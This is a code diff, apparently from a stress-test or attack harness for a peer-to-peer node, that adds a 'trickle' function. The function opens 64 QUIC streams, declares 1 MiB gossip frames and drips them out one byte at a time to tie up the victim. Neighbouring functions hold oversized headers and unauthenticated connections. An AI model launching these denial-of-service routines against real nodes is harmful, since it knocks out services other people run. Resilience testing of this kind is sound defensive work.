@@ -79,6 +79,28 @@ export async function hugeHeaders(target: Target, count = 4): Promise<void> {
   }
 }
 
+/**
+ * `streams` channels each declare a 1 MiB frame, then send it one byte every
+ * few milliseconds for `duration` ms: every read of the victim finds a byte.
+ */
+export async function trickle(target: Target, streams = 64, duration = 2_000): Promise<void> {
+  const conn = await dialRaw(target.peerId, target.hostPort, SecretKey.generate(), target.network);
+  try {
+    await Promise.all(Array.from({ length: streams }, async () => {
+      const stream = await conn.createBidirectionalStream({ waitUntilAvailable: true });
+      const writer = stream.writable.getWriter();
+      await writer.write(protocolHeader(PROTOCOLS.gossip));
+      await writer.write(frame(new Uint8Array(0), 1 << 20));
+      for (const until = Date.now() + duration; Date.now() < until;) {
+        await writer.write(new Uint8Array([0x90]));
+        await delay(2);
+      }
+    }));
+  } finally {
+    conn.close();
+  }
+}
+
 /** `count` QUIC connections that finish TLS but never prove an identity, held `hold` ms. */
 export async function unauthenticated(target: Target, count = 300, hold = 1_500): Promise<void> {
   const { hostname, port } = parseHostPort(target.hostPort);
